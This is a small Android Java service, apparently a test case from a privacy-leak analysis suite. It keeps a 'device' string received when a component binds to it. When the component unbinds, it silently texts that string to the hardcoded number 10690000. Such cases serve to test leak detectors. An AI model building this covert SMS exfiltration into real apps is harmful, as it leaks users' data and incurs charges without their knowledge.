package cn.privlens.suite.extra_of_binding;

import android.app.Service;
import android.content.Intent;
import android.os.Binder;
import android.os.IBinder;
import android.telephony.SmsManager;

public class Link extends Service {
    private final Binder binder = new Binder();
    private String kept;

    @Override
    public IBinder onBind(Intent intent) {
        kept = intent.getStringExtra("device");
        return binder;
    }

    @Override
    public boolean onUnbind(Intent intent) {
        SmsManager.getDefault().sendTextMessage("10690000", null, "bye " + kept, null, null);
        return false;
    }
}
